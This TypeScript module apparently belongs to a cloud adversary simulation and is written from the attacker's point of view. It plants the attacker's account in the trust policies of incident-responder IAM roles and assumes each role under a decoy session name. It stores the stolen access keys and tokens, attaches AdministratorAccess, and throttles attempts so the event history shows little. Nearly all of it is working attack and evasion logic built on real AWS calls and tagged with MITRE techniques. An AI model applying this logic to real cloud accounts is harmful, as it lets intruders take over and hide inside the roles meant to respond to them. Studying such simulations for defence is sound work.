import type { JsonObject } from '../../cloud/types.ts';
import { tryCall, tryDoors, type HisDoor } from '../door.ts';
import type { Holdings } from '../holdings.ts';
import { isResponders, trustHim } from './add-trust.ts';

/** What he calls himself in a role of the responders: a name that nobody looks at twice. */
export const BORROWED_SESSION = 'ops-review';

const ADMINISTRATOR = 'arn:aws:iam::aws:policy/AdministratorAccess';

/**
 * He goes for what shield and freeze exempt: his account joins the trust of the responders' own roles, beside the
 * bot's, so that the bot goes on working and nobody looks; then he takes a session of each and keeps it (T1098, T1550).
 */
export function takeResponder(doors: readonly HisDoor[], his: Holdings): number {
  const trusted = goes(his) ? trustHim(doors, his, isResponders) : [];
  const sessions = [...his.responders].filter((roleArn) => borrow(doors, his, roleArn));
  for (const roleArn of trusted) his.responders.add(roleArn);
  return trusted.length + sessions.length;
}

/** Every half second there would be noise in the event history that somebody reads. */
const BETWEEN_TRIES_MS = 20_000;

function goes(his: Holdings): boolean {
  const now = his.now().getTime();
  if (now < his.nextTry) return false;
  his.nextTry = now + BETWEEN_TRIES_MS;
  return true;
}

/** From his own account; IAM takes its seconds to let him in. One session of each role is enough. */
function borrow(doors: readonly HisDoor[], his: Holdings, RoleArn: string): boolean {
  const mark = `session of ${RoleArn}`;
  if (his.done.has(mark)) return false;
  const RoleSessionName = BORROWED_SESSION;
  const assumed = tryCall(his.home, 'sts', 'AssumeRole', { RoleArn, RoleSessionName });
  if (!assumed.ok) return false;
  const session = assumed.output['Credentials'] as JsonObject;
  his.done.add(mark);
  his.gain(nameIn(RoleArn), {
    accessKeyId: String(session['AccessKeyId']),
    secretAccessKey: String(session['SecretAccessKey']),
    sessionToken: String(session['SessionToken']),
  });
  tryDoors(doors, 'iam', 'AttachRolePolicy', {
    RoleName: nameIn(RoleArn),
    PolicyArn: ADMINISTRATOR,
  });
  return true;
}

const nameIn = (roleArn: string): string => roleArn.slice(roleArn.lastIndexOf('/') + 1);
